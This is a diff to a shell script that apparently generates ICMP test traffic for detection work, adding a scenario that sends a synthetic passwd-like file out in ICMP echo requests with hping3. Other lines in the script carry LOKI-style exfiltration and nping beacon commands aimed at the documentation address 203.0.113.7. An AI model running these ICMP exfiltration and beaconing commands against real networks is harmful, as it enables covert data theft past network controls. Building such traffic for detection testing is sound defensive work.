@@ -32,6 +32,7 @@
 #   traceroute_many     traceroute -I, traceroute -U and mtr -u -r to three outside and inside hosts
 #   exfil_reply_loki    a file sent out in unsolicited echo replies (hping3 -1 -C 0 -E), as LOKI did
 #   beacon_nping        nping --icmp every 5 s with a fixed 24-byte string, to an outside host, 100 s
+#   exfil_small_file    a 1.6 KB passwd-like file sent out with hping3 -1 -E -d 100 (17 requests)
 #   c2_icmpsh_like      a command channel in the manner of icmpsh (icmp_c2.py): the implant polls an
 #                       outside master every second, commands come back in echo replies, output
 #                       goes out in echo requests (about 80 s)
@@ -120,6 +121,10 @@ case $sc in
     x ih_atk timeout 40 hping3 -1 -C 0 -E /tmp/ih_loki -d 400 -c 80 -i u300000 -q 203.0.113.7 >/dev/null 2>&1 ;;
   beacon_nping)
     x ih_atk timeout 110 nping --icmp -c 20 --delay 5s -q --data-string 'id=7f3a;state=idle;v=2.1' 203.0.113.7 >/dev/null 2>&1 ;;
+  exfil_small_file)
+    for i in $(seq 0 29); do echo "user$i:x:$((1000 + i)):$((1000 + i)):User $i,,,:/home/user$i:/bin/bash"; done > /tmp/ih_passwd
+    n=$(( ($(wc -c < /tmp/ih_passwd) + 99) / 100 ))
+    x ih_atk timeout 30 hping3 -1 -q -E /tmp/ih_passwd -d 100 -c "$n" -i u500000 203.0.113.7 >/dev/null 2>&1 ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
